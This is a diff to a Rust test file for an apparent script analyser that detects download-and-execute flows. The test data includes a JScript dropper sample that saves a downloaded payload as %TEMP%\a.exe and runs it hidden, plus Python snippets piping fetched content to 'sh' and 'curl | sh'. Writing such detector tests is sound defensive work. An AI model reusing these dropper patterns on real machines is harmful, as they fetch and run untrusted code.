@@ -1,4 +1,4 @@
-//! What hidden code does, and what objects of the Windows Script Host are.
+//! What hidden code does, what objects of the Windows Script Host are, and what starts nothing.
 
 use super::event::{Act, Event};
 use super::flows;
@@ -47,4 +47,16 @@ fn objects_of_the_script_host_are_what_their_names_say() {
                   var s = new ActiveXObject('ADODB.Stream'); s.Open(); s.Write(x.responseBody); s.SaveToFile('%TEMP%\\\\a.exe', 2);\n\
                   new ActiveXObject('Shell.Application').ShellExecute('%TEMP%\\\\a.exe', '', '', 'open', 0);";
     assert!(rules(Language::JavaScript, script).contains(&"flow-download-run"));
+}
+
+#[test]
+fn unpacking_starts_nothing() {
+    let started = |command: &str| {
+        let code = format!(
+            "import os, requests\nticket = requests.get('https://data.invalid/t').text\nos.system(f'{command}')\n"
+        );
+        rules(Language::Python, &code).contains(&"flow-download-run")
+    };
+    assert!(started("{ticket}") && started("sh {ticket}") && started("curl -s {ticket} | sh"));
+    assert!(!started("touch {ticket}") && !started("tar xzf {ticket}") && !started("gzip -dc {ticket} | tar x"));
 }
